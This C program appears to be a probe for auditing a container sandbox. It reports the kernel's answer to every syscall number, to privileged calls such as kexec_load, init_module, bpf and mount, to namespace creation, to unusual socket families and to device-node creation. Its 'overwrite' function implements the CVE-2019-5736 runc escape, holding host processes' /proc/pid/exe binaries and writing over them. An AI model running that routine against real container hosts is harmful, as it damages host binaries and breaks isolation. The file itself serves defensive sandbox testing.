/* What the kernel answers inside a container, asked without a libc's good manners: one line an answer, `name ERRNO`. */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NUMBERS 512
#define NEVER_RETURNED (-1)
#define BLOCKS_MS 300

static void say(const char *name, long result) {
    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
}

static void pause_ms(long ms) {
    struct timespec time = {ms / 1000, ms % 1000 * 1000000};
    nanosleep(&time, NULL);
}

/* Every number with arguments that are all zero, each in a child of its own: it may hang, crash or not come back. */
static int every_number(void) {
    volatile int *answers = mmap(NULL, NUMBERS * sizeof(int), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t children[NUMBERS];
    for (int number = 0; number < NUMBERS; number++) {
        answers[number] = NEVER_RETURNED;
        children[number] = 0;
        if (number == SYS_sync)
            continue; /* It works, and would wait for every disk of the host. */
        if ((children[number] = fork()) == 0) {
            long result = syscall(number, 0, 0, 0, 0, 0, 0);
            answers[number] = result < 0 ? errno : 0;
            _exit(0);
        }
    }
    pause_ms(BLOCKS_MS);
    for (int number = 0; number < NUMBERS; number++) {
        if (children[number] > 0) {
            kill(children[number], SIGKILL);
            waitpid(children[number], NULL, 0);
        }
    }
    for (int number = 0; number < NUMBERS; number++) {
        int answer = answers[number];
        printf("%d %s\n", number, answer == NEVER_RETURNED ? "open" : answer ? strerrorname_np(answer) : "ok");
    }
    return 0;
}

/* A call by another of the processor's doors than the 64-bit one, in a child: the filter may kill it for that. */
static void another_door(const char *name, int is_x32) {
    pid_t child = fork();
    if (child == 0) {
        long result;
        if (is_x32)
            __asm__ volatile("syscall" : "=a"(result) : "a"(0x40000000L + SYS_getpid) : "rcx", "r11", "memory");
        else
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
        _exit(result < 0 ? (int)-result : 0);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status))
        printf("%s killed\n", name);
    else
        printf("%s %s\n", name, WEXITSTATUS(status) ? strerrorname_np(WEXITSTATUS(status)) : "ok");
}

/* A namespace by clone: only 0 arguments but the flags, so a filter that looks at them has to refuse. */
static void cloned(const char *name, long flags) {
    long result = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (result == 0)
        _exit(0);
    say(name, result);
    if (result > 0)
        waitpid((pid_t)result, NULL, 0);
}

static long clone3(void) {
    unsigned long long arguments[11] = {0};
    arguments[4] = SIGCHLD;
    long result = syscall(SYS_clone3, arguments, 64);
    if (result == 0)
        _exit(0);
    return result;
}

static void calls(void) {
    char space[256] = {0};
    say("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    say("add_key", syscall(SYS_add_key, "user", "name", "value", 5, -3));
    say("request_key", syscall(SYS_request_key, "user", "name", NULL, -3));
    say("io_uring_setup", syscall(SYS_io_uring_setup, 1, space));
    say("userfaultfd", syscall(SYS_userfaultfd, 0));
    say("bpf", syscall(SYS_bpf, 0, space, 48));
    say("perf_event_open", syscall(SYS_perf_event_open, space, 0, -1, -1, 0));
    say("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, space, 0));
    say("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    say("init_module", syscall(SYS_init_module, space, 1, ""));
    say("finit_module", syscall(SYS_finit_module, 0, "", 0));
    say("delete_module", syscall(SYS_delete_module, "none", 0));
    say("syslog", syscall(SYS_syslog, 3, space, sizeof(space)));
    say("acct", syscall(SYS_acct, "/tmp/none"));
    say("swapon", syscall(SYS_swapon, "/tmp/none", 0));
    say("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
    say("settimeofday", syscall(SYS_settimeofday, space, NULL));
    say("clock_settime", syscall(SYS_clock_settime, 0, space));
    say("sethostname", syscall(SYS_sethostname, "x", 1));
    say("iopl", syscall(SYS_iopl, 3));
    say("setns", syscall(SYS_setns, 0, 0));
    say("pivot_root", syscall(SYS_pivot_root, "/", "/"));
    say("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    say("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    say("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, space, 32));
    say("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
    say("remount", mount(NULL, "/sys", NULL, MS_REMOUNT, NULL));
    say("umount", umount2("/proc/sys", MNT_DETACH));
    say("quotactl", syscall(SYS_quotactl, 0, "/", 0, space));
    say("lookup_dcookie", syscall(SYS_lookup_dcookie, 0, space, sizeof(space)));
    say("personality", personality(ADDR_NO_RANDOMIZE));
    say("clone3", clone3());
    say("unshare user", unshare(CLONE_NEWUSER));
    say("unshare mount", unshare(CLONE_NEWNS));
    say("unshare network", unshare(CLONE_NEWNET));
    say("unshare cgroup", unshare(CLONE_NEWCGROUP));
    say("unshare time", unshare(0x80));
    cloned("clone user", CLONE_NEWUSER);
    cloned("clone mount", CLONE_NEWNS);
    cloned("clone nothing new", 0);
    another_door("32-bit call", 0);
    another_door("x32 call", 1);
}

static void sockets(void) {
    static const struct { const char *name; int family, kind, protocol; } wanted[] = {
        {"unix", AF_UNIX, SOCK_STREAM, 0}, {"ipv4", AF_INET, SOCK_STREAM, 0}, {"ipv6", AF_INET6, SOCK_STREAM, 0},
        {"netlink", AF_NETLINK, SOCK_RAW, 0}, {"ping", AF_INET, SOCK_DGRAM, IPPROTO_ICMP},
        {"raw", AF_INET, SOCK_RAW, IPPROTO_ICMP}, {"packet", AF_PACKET, SOCK_RAW, 0}, {"vsock", 40, SOCK_STREAM, 0},
        {"alg", 38, SOCK_SEQPACKET, 0}, {"bluetooth", AF_BLUETOOTH, SOCK_RAW, 0}, {"can", AF_CAN, SOCK_RAW, 0},
        {"appletalk", AF_APPLETALK, SOCK_DGRAM, 0}, {"key", AF_KEY, SOCK_RAW, 2}, {"rds", 21, SOCK_SEQPACKET, 0},
        {"tipc", 30, SOCK_STREAM, 0}, {"smc", 43, SOCK_STREAM, 0}, {"xdp", 44, SOCK_RAW, 0},
    };
    for (size_t each = 0; each < sizeof(wanted) / sizeof(*wanted); each++) {
        int fd = socket(wanted[each].family, wanted[each].kind, wanted[each].protocol);
        say(wanted[each].name, fd);
        if (fd >= 0)
            close(fd);
    }
}

static void nodes(void) {
    say("block device", mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0)));
    say("memory device", mknod("/tmp/memory", S_IFCHR | 0600, makedev(1, 1)));
    say("null device", mknod("/tmp/null", S_IFCHR | 0600, makedev(1, 3)));
    say("fifo", mknod("/tmp/fifo", S_IFIFO | 0600, 0));
}

/* Open each path for reading and, if told, for writing; nothing is written. */
static void opened(int flags, int count, char **paths) {
    for (int each = 0; each < count; each++) {
        int fd = open(paths[each], flags | O_CLOEXEC | O_NONBLOCK);
        say(paths[each], fd);
        if (fd >= 0)
            close(fd);
    }
}

/* Descriptors that were given to this process, and what they lead to. */
static void descriptors(void) {
    DIR *directory = opendir("/proc/self/fd");
    for (struct dirent *entry; (entry = readdir(directory));) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(directory))
            continue;
        printf("%s\n", entry->d_name);
    }
}

static void connected(const char *address, const char *port) {
    struct sockaddr_in where = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    inet_pton(AF_INET, address, &where.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), code = 0;
    socklen_t size = sizeof(code);
    if (connect(fd, (struct sockaddr *)&where, sizeof(where)) < 0) {
        struct pollfd change = {fd, POLLOUT, 0};
        code = errno;
        if (code == EINPROGRESS) {
            code = ETIMEDOUT;
            if (poll(&change, 1, 2000) == 1)
                getsockopt(fd, SOL_SOCKET, SO_ERROR, &code, &size);
        }
    }
    printf("%s %s\n", address, code ? strerrorname_np(code) : "ok");
    close(fd);
}

/* CVE-2019-5736: hold the program of whoever comes in from outside, and write to it as soon as it no longer runs. */
static void overwrite(int rounds) {
    char path[64], target[256];
    int seen = 0, held = 0, written = 0;
    puts("watching");
    fflush(stdout);
    for (int pid = 2; rounds > 0; pid++) {
        if (pid > 100) {
            pid = 2;
            rounds--;
            pause_ms(1);
        }
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        ssize_t length = readlink(path, target, sizeof(target) - 1);
        if (length < 0) {
            seen += errno == EACCES || errno == EPERM; /* There, and closed. */
            continue;
        }
        target[length] = 0;
        if (strstr(target, "/busybox") || strstr(target, "/probe"))
            continue;
        seen++;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        held += fd >= 0;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        for (int attempt = 0; fd >= 0 && attempt < 20; attempt++) {
            int writable = open(path, O_WRONLY | O_CLOEXEC);
            written += writable >= 0 && write(writable, "#!", 2) == 2;
            close(writable);
            pause_ms(1);
        }
        close(fd);
    }
    printf("seen %d held %d written %d\n", seen, held, written);
}

/* How many inotify instances a user can still have; held until killed, if told. */
static void watches(int hold) {
    int count = 0;
    while (count < 4096 && inotify_init1(IN_CLOEXEC) >= 0)
        count++;
    printf("instances %d\n", count);
    fflush(stdout);
    while (hold)
        pause();
}

/* A tree whose path no call can take as a whole. */
static void deep(int levels) {
    for (int level = 0; level < levels; level++)
        if (mkdir("deep", 0700) < 0 || chdir("deep") < 0)
            break;
    say("deep", access(".", W_OK));
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "";
    if (!strcmp(what, "every-number"))
        return every_number();
    if (!strcmp(what, "calls"))
        calls();
    else if (!strcmp(what, "sockets"))
        sockets();
    else if (!strcmp(what, "nodes"))
        nodes();
    else if (!strcmp(what, "read"))
        opened(O_RDONLY, count - 2, words + 2);
    else if (!strcmp(what, "write"))
        opened(O_WRONLY, count - 2, words + 2);
    else if (!strcmp(what, "descriptors"))
        descriptors();
    else if (!strcmp(what, "user"))
        printf("real %d effective %d\n", (int)getuid(), (int)geteuid());
    else if (!strcmp(what, "connect"))
        for (int each = 2; each + 1 < count; each += 2)
            connected(words[each], words[each + 1]);
    else if (!strcmp(what, "overwrite"))
        overwrite(atoi(words[2]));
    else if (!strcmp(what, "deep"))
        deep(atoi(words[2]));
    else if (!strcmp(what, "watches"))
        watches(count > 2);
    else
        return 2;
    return 0;
}
